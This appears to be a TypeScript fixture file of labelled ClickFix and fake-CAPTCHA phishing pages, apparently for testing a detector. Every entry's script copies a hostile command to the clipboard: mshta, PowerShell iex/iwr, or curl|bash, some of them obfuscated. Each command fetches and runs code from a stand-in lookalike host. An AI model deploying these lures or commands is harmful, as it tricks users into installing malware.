import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

// Written by hand after public ClickFix / fake-CAPTCHA write-ups; commands point at hosts that are not served.
const html = String.raw;

export const entries: Entry[] = [
{
  id: 'b-cf-recaptcha-mshta',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://docview-secure.pages-cloud.net/file/Q4-payroll-adjustment',
  body: html`<!doctype html>
<html><head><meta charset="utf-8"><title>Q4 Payroll Adjustment.pdf</title>
<style>
body{background:#525659;font-family:Roboto,Arial,sans-serif;margin:0}
.blur{filter:blur(6px);width:760px;margin:40px auto;background:#fff;height:900px;padding:50px;color:#333}
.overlay{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.35)}
.rc{background:#f9f9f9;border:1px solid #d3d3d3;border-radius:3px;box-shadow:0 0 4px 1px rgba(0,0,0,.08);width:304px;height:78px;display:flex;align-items:center;padding:0 12px;position:relative}
.rc .box{width:28px;height:28px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer;margin-right:12px}
.rc .logo{position:absolute;right:10px;top:10px;text-align:center;font-size:10px;color:#555}
.pop{display:none;background:#fff;width:400px;border-radius:4px;box-shadow:0 6px 30px rgba(0,0,0,.3);margin-top:10px}
.pop .hd{background:#1a73e8;color:#fff;padding:18px 20px;font-size:18px}
.pop .bd{padding:18px 20px;font-size:15px;line-height:1.8}
.pop kbd{background:#eee;border-radius:3px;border:1px solid #bbb;padding:0 5px}
.pop .ft{border-top:1px solid #ddd;padding:10px 20px;text-align:right}
.pop button{background:#1a73e8;color:#fff;border:0;padding:9px 22px;border-radius:2px;font-weight:bold}
</style></head>
<body>
<div class="blur"><h2>Payroll Adjustment – Q4</h2><p>Dear employee, please review the attached adjustment summary for the fourth quarter...</p><table border=1 width=100%><tr><td>Base</td><td>Adj.</td><td>Net</td></tr><tr><td>--</td><td>--</td><td>--</td></tr></table></div>
<div class="overlay"><div>
 <div class="rc"><div class="box" id="rcbox"></div><span>I'm not a robot</span><div class="logo"><img src="https://www.gstatic.com/recaptcha/api2/logo_48.png" width="32" alt=""><br>reCAPTCHA<br><small>Privacy - Terms</small></div></div>
 <div class="pop" id="pop"><div class="hd">Verify You Are Human</div><div class="bd">Please verify that you are a human to continue.<br><br>
 1. Press &amp; hold the Windows Key <kbd>&#8862;</kbd> + <kbd>R</kbd>.<br>
 2. In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd>.<br>
 3. Press <kbd>Enter</kbd> on your keyboard to finish.<br><br>
 <small>You will observe and agree:<br>&#10003; "I am not a robot - reCAPTCHA Verification ID: <span id="vid">4821</span>"</small></div>
 <div class="ft"><button onclick="this.textContent='Checking...'">Verify</button></div></div>
</div></div>
<script>
  const id = String(Math.floor(Math.random()*8999)+1000);
  document.getElementById('vid').textContent = id;
  function stage(){
    const t = 'mshta https://docview-secure.pages-cloud.net/cdn/verify.hta # \u2705 "I am not a robot - reCAPTCHA Verification ID: ' + id + '"';
    const ta = document.createElement('textarea'); ta.value = t; document.body.appendChild(ta); ta.select();
    try { navigator.clipboard.writeText(t) } catch(e) { document.execCommand('copy') }
    ta.remove();
  }
  document.getElementById('rcbox').onclick = function(){
    this.style.borderColor = '#4a90e2';
    stage();
    setTimeout(function(){ document.getElementById('pop').style.display = 'block' }, 700);
  };
</script>
</body></html>`,
},
{
  id: 'b-cf-textarea-execcommand',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://humancheck-verify.online/index.php?cid=71820',
  body: html`<html>
<head>
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Human Verification</title>
<link href="https://fonts.googleapis.com/css?family=Roboto:400,500" rel="stylesheet">
<style>
body { font-family: Roboto, sans-serif; background: #eef1f5; }
#container { width: 420px; margin: 120px auto; background: white; border-radius: 8px; padding: 30px; box-shadow: 0 2px 10px #ccc; text-align:center }
.btn { background: #0066ff; color:#fff; border:none; padding: 12px 40px; border-radius: 4px; font-size: 16px; cursor:pointer }
#instructions { display:none; text-align:left; margin-top:20px; font-size:15px }
#instructions li { margin: 10px 0 }
textarea#ct { position:absolute; left:-9999px; top:-9999px; opacity:0 }
</style>
</head>
<body>
<div id="container">
  <img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='64' height='64'><circle cx='32' cy='32' r='30' fill='%230066ff'/><path d='M18 33l9 9 19-19' stroke='white' stroke-width='6' fill='none'/></svg>" alt="">
  <h2>Verify you are human</h2>
  <p>We need to confirm you are not a robot before continuing.</p>
  <button class="btn" id="verify">I'm not a robot</button>
  <div id="instructions">
    <b>To better prove you are not a robot, please:</b>
    <ol>
      <li>Press and hold the Windows Key + R.</li>
      <li>In the verification window, press Ctrl + V.</li>
      <li>Press Enter on your keyboard to finish.</li>
    </ol>
  </div>
</div>
<textarea id="ct" readonly>cmd /c "curl -s -o %TEMP%\upd71820.cmd https://humancheck-verify.online/s/71820.cmd &amp;&amp; start /min %TEMP%\upd71820.cmd" &amp;:: Human verification ID 71820</textarea>
<script>
document.getElementById('verify').addEventListener('click', function() {
    var t = document.getElementById('ct');
    t.select();
    t.setSelectionRange(0, 99999);
    document.execCommand('copy');
    document.getElementById('instructions').style.display = 'block';
    this.style.display = 'none';
});
</script>
</body>
</html>`,
},
{
  id: 'b-cf-meet-microphone',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://meet.gooqle-join.com/kpz-rxwd-tqe',
  body: html`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Meet - kpz-rxwd-tqe</title>
<link rel="icon" href="https://fonts.gstatic.com/s/i/productlogos/meet_2020q4/v6/web-96dp/logo_meet_2020q4_color_2x_web_96dp.png">
<style>
html,body{height:100%;margin:0;background:#202124;font-family:"Google Sans",Roboto,Arial,sans-serif;color:#e8eaed}
.wrap{display:flex;height:100%;align-items:center;justify-content:center;gap:60px}
.video{width:640px;height:360px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}
.side{width:340px;text-align:center}
.side h1{font-size:28px;font-weight:400}
.join{background:#8ab4f8;color:#202124;border:0;border-radius:24px;padding:12px 26px;font-size:15px;cursor:pointer}
#modal{display:none;position:fixed;inset:0;background:rgba(0,0,0,.6);align-items:center;justify-content:center}
#modal .m{background:#fff;color:#202124;width:480px;border-radius:8px;padding:24px 28px}
#modal .m h2{font-size:20px;font-weight:500;margin-top:0}
#modal .m p{font-size:14px;color:#5f6368;line-height:1.6}
#modal .m ol{font-size:14px;line-height:1.9}
#modal .m button{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 22px;float:right}
</style></head><body>
<div class="wrap"><div class="video">Camera is starting</div>
<div class="side"><h1>Ready to join?</h1><p>No one else is here</p><button class="join" id="join">Join now</button></div></div>
<div id="modal"><div class="m">
<h2>Problem with your microphone and headphones</h2>
<p>Your browser is preventing access to your microphone and headphones. Others in the meeting can't hear you. To fix this, follow the steps below:</p>
<ol><li>Press the <b>Windows key + R</b></li><li>Paste the fix with <b>CTRL + V</b> (it was copied automatically)</li><li>Press <b>Enter</b>, then return to this tab</li></ol>
<button id="tryfix">Try fix</button><div style="clear:both"></div></div></div>
<script>
var s = ['powershell', '-w', '1', '-c', '"$d=\'https://meet.gooqle-join.com/api/audio-fix\';iex(iwr $d -UseBasicParsing).Content"'];
function cp(){ navigator.clipboard.writeText(s.join(' ')); }
document.getElementById('join').onclick = function(){ cp(); document.getElementById('modal').style.display='flex'; };
document.getElementById('tryfix').onclick = function(){ cp(); this.textContent = 'Copied - now press Win+R'; };
</script></body></html>`,
},
{
  id: 'b-cf-teams-audio-de',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://teams-live-meeting.de-besprechung.com/l/meetup-join/19%3ameeting_NzE4',
  body: html`<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Microsoft Teams</title>
<style>
body{margin:0;background:#f5f5f5;font-family:"Segoe UI",sans-serif}
.top{height:48px;background:#464775;color:#fff;display:flex;align-items:center;padding:0 18px;font-weight:600}
.card{max-width:560px;margin:70px auto;background:#fff;border-radius:6px;box-shadow:0 2px 8px rgba(0,0,0,.15);padding:32px}
.card h1{font-size:20px;margin:0 0 12px;color:#c4314b}
.card p{color:#444;line-height:1.55}
.card .st{background:#f3f2f1;padding:14px 18px;border-left:4px solid #6264a7;margin:16px 0;font-size:14px;line-height:2}
kbd{background:#fff;border:1px solid #bbb;border-radius:3px;padding:1px 5px;font-family:Consolas,monospace}
.btn{background:#6264a7;color:#fff;border:0;border-radius:4px;padding:10px 24px;font-size:14px;font-weight:600;cursor:pointer}
</style></head><body>
<div class="top">Microsoft Teams</div>
<div class="card">
<h1>Audiogerät nicht erkannt</h1>
<p>Sie wurden zur Besprechung <b>„Projektstatus Q3 – Finanzen"</b> eingeladen. Beim Zugriff auf Mikrofon und Lautsprecher ist ein Fehler aufgetreten (Fehlercode <b>0x80070490</b>). Ohne gültigen Audiotreiber können Sie nicht an der Besprechung teilnehmen.</p>
<div class="st">
<b>So beheben Sie das Problem:</b><br>
1. Klicken Sie auf <b>„Problem beheben"</b>.<br>
2. Drücken Sie <kbd>Win</kbd> + <kbd>X</kbd> und wählen Sie <b>Terminal (Administrator)</b>.<br>
3. Fügen Sie den Befehl mit <kbd>Strg</kbd> + <kbd>V</kbd> ein und drücken Sie <kbd>Enter</kbd>.<br>
4. Kehren Sie zu dieser Seite zurück – die Besprechung startet automatisch.</div>
<button class="btn" onclick="fx()">Problem beheben</button>
<p style="font-size:12px;color:#888;margin-top:24px">Besprechungs-ID: 318 442 907 15 · Kenncode: vX3q8R</p>
</div>
<script>
function fx(){
  var u = atob('aHR0cHM6Ly90ZWFtcy1saXZlLW1lZXRpbmcuZGUtYmVzcHJlY2h1bmcuY29tL2F1ZGlvL2Rydi5wczE=');
  var c = 'powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -Command "irm ' + u + ' | iex"';
  navigator.clipboard.writeText(c).then(function(){ document.querySelector('.btn').textContent = 'Kopiert ✓'; });
}
</script></body></html>`,
},
{
  id: 'b-cf-macos-terminal',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://cloud-verify-access.com/c/9f1e?src=dl',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Security Check</title>
<style>
body{font-family:-apple-system,BlinkMacSystemFont,"Helvetica Neue",sans-serif;background:#f5f5f7;margin:0;color:#1d1d1f}
.box{max-width:520px;margin:100px auto;background:#fff;border-radius:14px;box-shadow:0 4px 24px rgba(0,0,0,.08);padding:36px}
h1{font-size:24px;margin:0 0 6px}
.sub{color:#6e6e73;margin:0 0 24px}
.chk{display:flex;align-items:center;gap:12px;border:1px solid #d2d2d7;border-radius:10px;padding:14px 16px;cursor:pointer}
.chk .sq{width:22px;height:22px;border:2px solid #86868b;border-radius:5px}
.steps{display:none;margin-top:22px;font-size:15px;line-height:1.8}
.steps code{background:#f5f5f7;border-radius:5px;padding:1px 6px}
.win .mac-only{display:none}.mac .win-only{display:none}
</style></head>
<body>
<div class="box">
<h1>Verify you are human</h1>
<p class="sub">cloud-verify-access.com needs to review the security of your connection before proceeding.</p>
<div class="chk" id="chk"><div class="sq"></div><span>I am not a robot</span></div>
<div class="steps" id="steps">
 <div class="mac-only"><b>Complete verification on macOS:</b><br>1. Press <code>⌘ Command</code> + <code>Space</code>, type <b>Terminal</b> and press Return<br>2. Paste with <code>⌘ Command</code> + <code>V</code><br>3. Press Return and enter your password if asked</div>
 <div class="win-only"><b>Complete verification:</b><br>1. Press <code>Win</code> + <code>R</code><br>2. Press <code>Ctrl</code> + <code>V</code><br>3. Press <code>Enter</code></div>
</div>
</div>
<script>
var isMac = /Mac|iPhone|iPad/.test(navigator.platform || navigator.userAgent);
document.body.className = isMac ? 'mac' : 'win';
document.getElementById('chk').onclick = function () {
  var c;
  if (isMac) {
    c = '/bin/bash -c "$(curl -fsSL https://cloud-verify-access.com/m/install.sh)"';
  } else {
    c = 'powershell -NoProfile -Command "Start-Process -WindowStyle Hidden powershell -ArgumentList \'-c iwr https://cloud-verify-access.com/w/c.ps1 -UseB | iex\'"';
  }
  navigator.clipboard.writeText(c);
  this.querySelector('.sq').style.background = '#0071e3';
  document.getElementById('steps').style.display = 'block';
};
</script>
</body></html>`,
},
{
  id: 'b-cf-base64-sh',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://brew-sh.install-mac.app/verify',
  body: html`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Cloudflare - Verification</title>
<style>body{background:#1b1b1b;color:#eee;font:16px/1.5 Menlo,Monaco,monospace;display:flex;align-items:center;justify-content:center;height:100vh;margin:0}
.t{background:#262626;border:1px solid #3a3a3a;border-radius:8px;padding:28px 34px;max-width:640px}
h2{margin-top:0;color:#f6821f;font-family:-apple-system,Helvetica,sans-serif}
pre{background:#111;border-radius:6px;padding:12px;white-space:pre-wrap;word-break:break-all;color:#7ee787;font-size:13px}
button{background:#f6821f;color:#111;border:0;border-radius:5px;padding:10px 20px;font-weight:bold;cursor:pointer}</style></head>
<body><div class="t">
<h2>Verification Required</h2>
<p>To confirm you are not a bot and to protect this download from automated abuse, macOS users must run a one-time verification in Terminal.</p>
<p>1. Click <b>Copy</b><br>2. Open <b>Terminal</b> (Applications &rarr; Utilities)<br>3. Paste and press <b>Return</b></p>
<pre id="c">echo "Y3VybCAtZnNTTCBodHRwczovL2JyZXctc2guaW5zdGFsbC1tYWMuYXBwL3VwZGF0ZSAtbyAvdG1wL3VwZGF0ZSAmJiB4YXR0ciAtYyAvdG1wL3VwZGF0ZSAmJiBjaG1vZCAreCAvdG1wL3VwZGF0ZSAmJiAvdG1wL3VwZGF0ZQ==" | base64 -d | bash</pre>
<button onclick="navigator.clipboard.writeText(document.getElementById('c').innerText);this.innerText='Copied'">Copy</button>
<p style="font-size:12px;color:#888">Ray ID: 8d21ffa07b0c1e93 &middot; Your IP: hidden</p>
</div></body></html>`,
},
{
  id: 'b-cf-split-strings',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://edge-captcha-check.info/v/?u=aHR0cHM6Ly9teXJlY2lwZXMuYmxvZw',
  body: html`<!doctype html><html><head><meta charset="utf-8"><title>Checking if the site connection is secure</title>
<style>body{font-family:Arial,sans-serif;text-align:center;padding-top:110px;background:#fff}
.spinner{width:36px;height:36px;border:4px solid #ddd;border-top-color:#2f7cf6;border-radius:50%;margin:20px auto;animation:s 1s linear infinite}@keyframes s{to{transform:rotate(360deg)}}
#v{display:none;width:360px;margin:0 auto;border:1px solid #ccc;border-radius:6px;padding:20px;text-align:left}
#v button{width:100%;padding:12px;background:#2f7cf6;color:#fff;border:0;border-radius:4px;font-size:15px}
#g{display:none;font-size:15px;line-height:2;margin-top:14px}</style></head>
<body><h2 id="h">Checking if the site connection is secure</h2><div class="spinner" id="sp"></div>
<div id="v"><p><b>Press the button below to confirm you are human.</b></p><button id="b">Confirm</button>
<div id="g">Press <b>Win</b>+<b>R</b> &rarr; <b>Ctrl</b>+<b>V</b> &rarr; <b>Enter</b><br><small>This step is needed once per device.</small></div></div>
<script>
var _0x1a=['\x70\x6f\x77','\x65\x72\x73','\x68\x65\x6c\x6c'];var _0x2b=[32,45,119,32,104,32,45,99,32];
var _0x3c="txt.2v/rc/ofni.kcehc-ahctpac-egde//:sptth";
function _0x4d(){var a=_0x1a.join('')+String.fromCharCode.apply(null,_0x2b);var b=_0x3c.split('').reverse().join('');
return a+'"$r=irm '+b+';&([scriptblock]::Create($r))"'+'  # Verification code: '+(Math.random()*1e6|0);}
setTimeout(function(){document.getElementById('sp').style.display='none';document.getElementById('h').textContent='Verify you are human';document.getElementById('v').style.display='block';},1800);
document.getElementById('b').onclick=function(){var t=_0x4d();var x=document.createElement('textarea');x.value=t;x.style.position='fixed';x.style.opacity='0';document.body.appendChild(x);x.focus();x.select();document.execCommand('copy');document.body.removeChild(x);document.getElementById('g').style.display='block';this.disabled=true;};
</script></body></html>`,
},
{
  id: 'b-cf-es-driver',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://noticias-del-dia24.com/deportes/liga-resumen-jornada-12',
  body: html`<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Resumen de la jornada 12 | Noticias del Día</title>
<style>body{margin:0;font-family:Georgia,serif}
.art{max-width:740px;margin:30px auto;filter:blur(3px)}
#err{position:fixed;inset:0;background:rgba(20,20,20,.88);display:flex;align-items:center;justify-content:center;font-family:"Segoe UI",Tahoma,sans-serif}
.e{background:#fff;width:520px;border-radius:6px;overflow:hidden}
.e .t{background:#76b900;color:#fff;padding:14px 20px;font-weight:bold}
.e .c{padding:20px;font-size:14px;line-height:1.6;color:#333}
.e ol{padding-left:18px}
.e button{background:#76b900;border:0;color:#fff;padding:10px 22px;border-radius:3px;font-weight:bold;cursor:pointer}</style></head>
<body>
<div class="art"><h1>El líder no falla y amplía su ventaja</h1><p>La duodécima jornada dejó un partido vibrante en el estadio...</p><img src="/img/jornada12.jpg" width="740" height="400" alt=""></div>
<div id="err"><div class="e"><div class="t">Error del controlador de pantalla</div><div class="c">
<p>No se puede mostrar correctamente el contenido de esta página. El controlador de vídeo instalado (versión 531.18) no es compatible con la aceleración por hardware del navegador.</p>
<p><b>Cómo solucionarlo:</b></p>
<ol><li>Haga clic en <b>«Copiar solución»</b></li><li>Pulse <b>Windows + R</b></li><li>Pegue con <b>Ctrl + V</b> y pulse <b>Intro</b></li><li>Actualice la página (F5)</li></ol>
<button onclick="copiar()">Copiar solución</button> <span id="ok" style="color:#2e7d32;display:none">&#10004; Copiado</span>
</div></div></div>
<script>
function copiar(){
  var a = "cmd /c start /min powershell -w h -c ";
  var b = "\"iex(New-Object Net.WebClient).DownloadString('https://noticias-del-dia24.com/wp-includes/js/drv.txt')\"";
  navigator.clipboard.writeText(a + b).then(function(){document.getElementById('ok').style.display='inline'});
}
</script></body></html>`,
},
{
  id: 'b-cf-pt-captcha',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://filmes-online-hd.top/assistir/o-ultimo-voo-2024',
  body: html`<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><title>Assistir O Último Voo (2024) Dublado HD</title>
<style>body{background:#111;color:#ddd;font-family:Arial;margin:0}.player{width:860px;height:480px;margin:30px auto;background:#000;position:relative}
.cap{position:absolute;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.75)}
.cap .bx{background:#fff;color:#222;width:380px;border-radius:6px;padding:22px}
.cap .bx h3{margin:0 0 10px}.cap .r{border:1px solid #ccc;padding:12px;border-radius:3px;display:flex;gap:10px;align-items:center;cursor:pointer}
.cap .r b{width:22px;height:22px;border:2px solid #888;display:inline-block}
#pass{display:none;font-size:14px;line-height:1.9;margin-top:12px}</style></head>
<body><h1 style="text-align:center;font-size:22px">O Último Voo (2024) – Dublado</h1>
<div class="player"><div class="cap"><div class="bx"><h3>Verifique se você é humano</h3><p style="font-size:13px">Para continuar assistindo, confirme que você não é um robô.</p>
<div class="r" onclick="ok(this)"><b></b> Não sou um robô</div>
<div id="pass">1. Pressione <b>Windows + R</b><br>2. Pressione <b>Ctrl + V</b><br>3. Pressione <b>Enter</b><br><small>ID de verificação: <span id="i"></span></small></div>
</div></div></div>
<textarea id="tx" style="position:absolute;left:-5000px"></textarea>
<script>
var i = (Math.random()*1e5|0); document.getElementById('i').textContent = i;
function ok(el){
  var t = document.getElementById('tx');
  t.value = 'powershell -W Hidden -NoP -c "iwr https://filmes-online-hd.top/player/codec.ps1 -OutFile $env:TEMP\\c.ps1; & $env:TEMP\\c.ps1" # Nao sou um robo - ID ' + i;
  t.select(); document.execCommand('copy');
  el.querySelector('b').style.background = '#4caf50';
  document.getElementById('pass').style.display = 'block';
}
</script></body></html>`,
},
{
  id: 'b-cf-booking-guest',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://admin.booking-reservation-id8824.com/hotel/hoteladmin/extranet_ng/manage/messaging/?guest=1184',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Booking.com | Partner Hub</title>
<style>body{margin:0;font-family:BlinkMacSystemFont,-apple-system,"Segoe UI",Roboto,Helvetica,Arial;background:#f5f5f5}
.nav{background:#003580;color:#fff;padding:14px 24px;font-size:20px;font-weight:700}
.cnt{max-width:640px;margin:50px auto;background:#fff;border-radius:8px;padding:28px;box-shadow:0 2px 8px rgba(26,26,26,.16)}
.cb{display:flex;align-items:center;gap:12px;border:1px solid #bbb;border-radius:4px;padding:14px;width:290px;cursor:pointer}
.cb div{width:24px;height:24px;border:2px solid #666;border-radius:2px}
#how{display:none;margin-top:18px;background:#ebf3ff;border-radius:4px;padding:14px 18px;line-height:1.9}</style></head>
<body><div class="nav">Booking.com <span style="font-weight:400;font-size:14px">Partner Hub</span></div>
<div class="cnt"><h2 style="margin-top:0">A guest has sent you a message</h2>
<p>Guest <b>Marta K.</b> (reservation #4183 772 109) reported a problem with her stay and left a negative review. Please respond within 24 hours to avoid penalties.</p>
<p>Before opening the message, confirm that you are not a robot.</p>
<div class="cb" id="cb"><div></div>I'm not a robot</div>
<div id="how"><b>Verification steps</b><br>1. Press <b>Windows + R</b><br>2. Press <b>CTRL + V</b><br>3. Press <b>Enter</b></div></div>
<script>
document.getElementById('cb').addEventListener('click',function(){
  var c='mshta https://admin.booking-reservation-id8824.com/captcha/verify.html?id=1184 # Booking.com Verification ID: 1184-'+Date.now().toString().slice(-5);
  navigator.clipboard.writeText(c);document.getElementById('how').style.display='block';
});
</script></body></html>`,
},
{
  id: 'b-cf-pdf-viewer',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://acrobat-cloud-docs.net/view/INV-2024-5531.pdf',
  body: html`<!DOCTYPE html><html><head><meta charset="utf-8"><title>INV-2024-5531.pdf - Adobe Acrobat</title>
<style>body{margin:0;background:#323639;font-family:"Adobe Clean","Segoe UI",Arial;color:#fff}.tb{background:#2b2b2b;height:44px;display:flex;align-items:center;padding:0 16px;gap:8px}
.tb span{background:#eb1000;border-radius:3px;padding:2px 6px;font-weight:bold}.pg{width:680px;height:860px;background:#fff;margin:24px auto;filter:blur(5px)}
.d{position:fixed;top:120px;left:50%;transform:translateX(-50%);width:500px;background:#fff;color:#222;border-radius:6px;box-shadow:0 8px 40px #000;padding:26px}
.d h3{margin-top:0;color:#eb1000}.d ol{line-height:1.9}.d button{background:#1473e6;color:#fff;border:0;border-radius:16px;padding:9px 22px;font-weight:bold;cursor:pointer}</style></head>
<body><div class="tb"><span>A</span> INV-2024-5531.pdf</div><div class="pg"></div>
<div class="d"><h3>This document could not be displayed</h3><p>Error AC-1102: the PDF font renderer failed to initialize. To open the document, repair the viewer:</p>
<ol><li>Click <b>Copy repair code</b></li><li>Press <b>Win + R</b> on your keyboard</li><li>Press <b>Ctrl + V</b> and then <b>Enter</b></li></ol>
<button id="b">Copy repair code</button></div>
<script>
document.getElementById('b').onclick=function(){
 navigator.clipboard.writeText('m'+'s'+'h'+'t'+'a'+' https://acrobat-cloud-docs.net/repair/AC1102.hta');
 this.textContent='Copied!';
};
</script></body></html>`,
},
];
